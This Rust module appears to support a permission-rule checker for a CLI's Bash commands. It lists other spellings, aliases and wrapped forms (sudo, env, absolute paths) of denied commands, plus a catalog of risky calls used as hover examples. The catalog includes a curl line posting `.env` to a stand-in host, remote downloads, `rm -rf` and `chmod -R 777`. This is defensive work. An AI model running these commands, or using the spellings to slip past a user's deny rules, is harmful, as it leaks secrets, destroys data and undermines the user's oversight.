//! Other spellings of the command a Bash rule names, which a user expects
//! the rule to cover: its flags in another order (`rm -fr` for `rm -rf`),
//! split (`rm -r -f`) or joined, their long forms (`rm --recursive
//! --force`), a subcommand's aliases (`npm i` for `npm install`), and
//! `git`'s global options before the subcommand (`git -C . push`). Rules
//! match command text, so each is a different command to them; whether
//! the CLI still blocks one is the simulator's answer, never this file's.
//!
//! Also the wrapped forms the CLI strips before matching deny rules
//! (`sudo`, `env`, absolute program paths, `timeout`, `nice`, …) and the
//! risky calls a broad allow rule lets through, as examples for hover.

/// Why a spelling is the same command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    FlagOrder,
    SplitFlags,
    JoinedFlags,
    LongOption,
    Alias,
    GitOption,
}

impl Kind {
    pub fn describe(self) -> &'static str {
        match self {
            Kind::FlagOrder => "its flags in another order",
            Kind::SplitFlags => "its flags written separately",
            Kind::JoinedFlags => "its flags written together",
            Kind::LongOption => "a flag in its other form (`--force` for `-f`)",
            Kind::Alias => "another name of the subcommand",
            Kind::GitOption => "a git option before the subcommand",
        }
    }
}

/// One spelling: the call to try, and the rule content that would deny
/// it in the rule's own form.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Spelling {
    pub command: String,
    pub rule_content: String,
    pub kind: Kind,
}

/// How a Bash rule's content ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    /// `prefix:*`
    Colon,
    /// `prefix *`
    Space,
    /// `prefix*`
    Glued,
    /// No wildcard.
    Exact,
}

fn split_form(content: &str) -> (&str, Form) {
    if let Some(b) = content.strip_suffix(":*") {
        (b, Form::Colon)
    } else if let Some(b) = content.strip_suffix(" *") {
        (b, Form::Space)
    } else if let Some(b) = content.strip_suffix('*') {
        (b, Form::Glued)
    } else {
        (content, Form::Exact)
    }
}

fn with_form(base: &str, form: Form) -> String {
    match form {
        Form::Colon => format!("{base}:*"),
        Form::Space => format!("{base} *"),
        Form::Glued => format!("{base}*"),
        Form::Exact => base.to_string(),
    }
}

/// Long forms of short flags, per command.
const LONG: &[(&str, char, &str)] = &[
    ("rm", 'r', "--recursive"),
    ("rm", 'R', "--recursive"),
    ("rm", 'f', "--force"),
    ("rm", 'v', "--verbose"),
    ("rm", 'd', "--dir"),
    ("cp", 'r', "--recursive"),
    ("cp", 'R', "--recursive"),
    ("cp", 'f', "--force"),
    ("mv", 'f', "--force"),
    ("chmod", 'R', "--recursive"),
    ("chown", 'R', "--recursive"),
    ("git push", 'f', "--force"),
    ("git push", 'd', "--delete"),
    ("git clean", 'f', "--force"),
    ("git clean", 'n', "--dry-run"),
    ("git checkout", 'f', "--force"),
    ("git branch", 'D', "--delete --force"),
    ("git branch", 'd', "--delete"),
    ("git stash", 'u', "--include-untracked"),
    ("npm install", 'g', "--global"),
    ("npm uninstall", 'g', "--global"),
];

/// Subcommand aliases.
const ALIASES: &[(&str, &[&str])] = &[
    ("npm install", &["npm i", "npm add"]),
    ("npm i", &["npm install"]),
    ("npm uninstall", &["npm remove", "npm rm", "npm un"]),
    ("npm run", &["npm run-script"]),
    ("npm publish", &[]),
    ("pnpm install", &["pnpm i", "pnpm add"]),
    ("pnpm remove", &["pnpm rm", "pnpm uninstall"]),
    ("yarn remove", &[]),
    ("pip uninstall", &[]),
    ("docker rm", &["docker container rm"]),
    ("docker rmi", &["docker image rm"]),
    ("kubectl delete", &[]),
];

/// Commands that take an operand: examples name one (`rm -fr build`).
fn operand_for(command: &str) -> Option<&'static str> {
    match command {
        "rm" | "rmdir" | "cp" | "mv" | "chmod" | "chown" | "shred" | "unlink" => Some("build"),
        _ => None,
    }
}

/// The command name and its subcommand (`git push`), and where the flags
/// start.
fn head_len(words: &[&str]) -> usize {
    match words.first() {
        Some(&("git" | "npm" | "pnpm" | "yarn" | "docker" | "kubectl" | "pip" | "cargo"))
            if words.get(1).is_some_and(|w| !w.starts_with('-')) =>
        {
            2
        }
        _ => 1,
    }
}

fn short_cluster(w: &str) -> Option<&str> {
    let letters = w.strip_prefix('-')?;
    (letters.len() >= 2
        && !letters.starts_with('-')
        && letters.chars().all(|c| c.is_ascii_alphabetic()))
    .then_some(letters)
}

fn single_short(w: &str) -> Option<char> {
    let l = w.strip_prefix('-')?;
    let mut it = l.chars();
    let c = it.next()?;
    (c.is_ascii_alphabetic() && it.next().is_none()).then_some(c)
}

/// The spellings of a Bash rule's content that it does not match but a
/// user expects it to (at most eight).
pub fn spellings(content: &str) -> Vec<Spelling> {
    let (base, form) = split_form(content);
    if base.contains(['*', '|', '&', ';', '>', '<', '`', '$', '\'', '"', '(', ')']) {
        return Vec::new();
    }
    let words: Vec<&str> = base.split(' ').filter(|w| !w.is_empty()).collect();
    if words.is_empty() {
        return Vec::new();
    }
    let head = head_len(&words);
    let head_text = words[..head].join(" ");
    let operand = match form {
        Form::Exact => None,
        _ => operand_for(words[0]),
    };
    let call = |ws: &[String]| -> String {
        let mut c = ws.join(" ");
        if let Some(o) = operand {
            c.push(' ');
            c.push_str(o);
        }
        c
    };
    let rebuilt = |ws: &[String]| with_form(&ws.join(" "), form);
    let own: Vec<String> = words.iter().map(|w| w.to_string()).collect();
    let mut out: Vec<Spelling> = Vec::new();
    let push = |ws: Vec<String>, kind: Kind, out: &mut Vec<Spelling>| {
        if ws == own {
            return;
        }
        let s = Spelling {
            command: call(&ws),
            rule_content: rebuilt(&ws),
            kind,
        };
        if !out.iter().any(|o| o.command == s.command) {
            out.push(s);
        }
    };
    for (i, w) in words.iter().enumerate().skip(head) {
        if let Some(letters) = short_cluster(w) {
            let mut ws = own.clone();
            ws[i] = format!("-{}", letters.chars().rev().collect::<String>());
            push(ws, Kind::FlagOrder, &mut out);
            let mut ws = own.clone();
            ws.splice(i..=i, letters.chars().map(|c| format!("-{c}")));
            push(ws, Kind::SplitFlags, &mut out);
            // Long forms, when every letter has one.
            let longs: Option<Vec<&str>> = letters
                .chars()
                .map(|c| {
                    LONG.iter()
                        .find(|(cmd, l, _)| *cmd == head_text && *l == c)
                        .map(|(_, _, long)| *long)
                })
                .collect();
            if let Some(longs) = longs {
                let mut ws = own.clone();
                ws.splice(i..=i, longs.iter().map(|s| s.to_string()));
                push(ws, Kind::LongOption, &mut out);
            }
            // `-rf` is also `-Rf` for the commands where `-R` is `-r`.
            if letters.contains('r') && matches!(head_text.as_str(), "rm" | "cp") {
                let mut ws = own.clone();
                ws[i] = format!("-{}", letters.replace('r', "R"));
                push(ws, Kind::LongOption, &mut out);
            }
        } else if let Some(c) = single_short(w) {
            if let Some((_, _, long)) = LONG.iter().find(|(cmd, l, _)| *cmd == head_text && *l == c)
            {
                let mut ws = own.clone();
                ws.splice(i..=i, long.split(' ').map(String::from));
                push(ws, Kind::LongOption, &mut out);
            }
            // Two single flags in a row: joined, both orders.
            if let Some(d) = words.get(i + 1).and_then(|n| single_short(n)) {
                let mut ws = own.clone();
                ws.splice(i..=i + 1, [format!("-{c}{d}")]);
                push(ws, Kind::JoinedFlags, &mut out);
                let mut ws = own.clone();
                ws.splice(i..=i + 1, [format!("-{d}{c}")]);
                push(ws, Kind::JoinedFlags, &mut out);
            }
        } else if let Some(long) = w.strip_prefix("--") {
            // A long flag whose short form the table knows.
            let full = format!("--{long}");
            if let Some((_, c, _)) = LONG
                .iter()
                .find(|(cmd, _, l)| *cmd == head_text && *l == full)
            {
                let mut ws = own.clone();
                ws[i] = format!("-{c}");
                push(ws, Kind::LongOption, &mut out);
            }
        }
    }
    // Aliases of the subcommand.
    if let Some((_, aliases)) = ALIASES.iter().find(|(name, _)| *name == head_text) {
        for a in *aliases {
            let mut ws: Vec<String> = a.split(' ').map(String::from).collect();
            ws.extend(own[head..].iter().cloned());
            push(ws, Kind::Alias, &mut out);
        }
    }
    // git's global options before the subcommand.
    if words[0] == "git" && head == 2 {
        for opt in [
            &["-C", "."][..],
            &["--no-pager"][..],
            &["-c", "core.pager=cat"][..],
        ] {
            let mut ws = vec!["git".to_string()];
            ws.extend(opt.iter().map(|s| s.to_string()));
            ws.extend(own[1..].iter().cloned());
            push(ws, Kind::GitOption, &mut out);
        }
    }
    out.truncate(8);
    out
}

/// The command a rule's content names, as an example call (`rm -rf
/// build` for `rm -rf *`), or `None` for a content with operators or
/// several wildcards.
pub fn example_command(content: &str) -> Option<String> {
    let (base, form) = split_form(content);
    if base.contains(['*', '|', '&', ';', '>', '<', '`', '$']) || base.trim().is_empty() {
        return None;
    }
    let first = base.split(' ').next().unwrap_or("");
    let mut c = base.trim().to_string();
    if form != Form::Exact
        && let Some(o) = operand_for(first)
    {
        c.push(' ');
        c.push_str(o);
    }
    Some(c)
}

/// The wrapped forms of a command that the CLI strips before matching
/// deny rules (observed on 2.1.332).
pub fn wrapped(command: &str) -> Vec<String> {
    let first = command.split(' ').next().unwrap_or("");
    let mut out = vec![
        format!("sudo {command}"),
        format!("env FOO=1 {command}"),
        format!("timeout 5 {command}"),
        format!("nice -n 5 {command}"),
        format!("nohup {command}"),
    ];
    if !first.is_empty() && !first.contains('/') {
        out.insert(1, format!("/usr/bin/{command}"));
    }
    out
}

/// Calls a broad allow rule may let through that do more than the rule
/// seems to say: each with what it does.
pub const RISKY: &[(&str, &str)] = &[
    ("git push --force", "rewrites the remote's history"),
    ("git reset --hard", "discards uncommitted work"),
    ("git clean -fdx", "deletes untracked and ignored files"),
    ("git push origin --delete main", "deletes a remote branch"),
    ("git checkout -- .", "discards uncommitted changes"),
    ("npm publish", "publishes the package"),
    ("npm exec some-package", "downloads and runs a package"),
    (
        "npm install some-package",
        "runs the package's install scripts",
    ),
    ("npx some-package", "downloads and runs a package"),
    ("pnpm dlx some-package", "downloads and runs a package"),
    ("yarn dlx some-package", "downloads and runs a package"),
    ("python3 -c 'import os'", "runs any Python code"),
    ("python -c 'import os'", "runs any Python code"),
    ("node -e 'process.exit()'", "runs any JavaScript"),
    ("ruby -e 'exit'", "runs any Ruby code"),
    ("perl -e 'exit'", "runs any Perl code"),
    (
        "curl -X POST https://example.com -d @.env",
        "sends data anywhere",
    ),
    ("wget -O run.sh https://example.com", "downloads anything"),
    (
        "docker run --privileged image",
        "runs a container with host access",
    ),
    ("docker rm -f container", "removes a container"),
    ("kubectl delete pod x", "deletes cluster resources"),
    ("rm -rf build", "deletes files recursively"),
    ("chmod -R 777 .", "opens every file to everyone"),
    ("gh repo delete", "deletes a repository"),
    ("gh pr merge", "merges a pull request"),
    ("make", "runs whatever the Makefile says"),
    ("cargo run", "runs the project's code"),
    ("go run .", "runs the project's code"),
    ("ssh host", "runs commands on another machine"),
    ("scp x host:", "copies files to another machine"),
    ("sudo true", "runs commands as root"),
    ("xargs rm -rf", "runs a command on every input line"),
    ("terraform apply", "changes infrastructure"),
    ("aws s3 rm s3://bucket --recursive", "deletes cloud data"),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(c: &str) -> Vec<String> {
        spellings(c).into_iter().map(|s| s.command).collect()
    }

    #[test]
    fn spellings_of_common_denies() {
        let rm = commands("rm -rf *");
        assert!(rm.contains(&"rm -fr build".to_string()), "{rm:?}");
        assert!(rm.contains(&"rm -r -f build".to_string()), "{rm:?}");
        assert!(
            rm.contains(&"rm --recursive --force build".to_string()),
            "{rm:?}"
        );
        assert!(rm.contains(&"rm -Rf build".to_string()), "{rm:?}");
        let s = spellings("rm -rf:*");
        assert!(s.iter().any(|s| s.rule_content == "rm -fr:*"));
        let push = commands("git push --force:*");
        assert!(push.contains(&"git push -f".to_string()), "{push:?}");
        assert!(
            push.contains(&"git -C . push --force".to_string()),
            "{push:?}"
        );
        let npm = commands("npm install:*");
        assert!(npm.contains(&"npm i".to_string()), "{npm:?}");
        assert!(commands("rm:*").is_empty());
        assert!(commands("echo $(x)").is_empty());
        assert_eq!(example_command("rm -rf *").as_deref(), Some("rm -rf build"));
    }
}
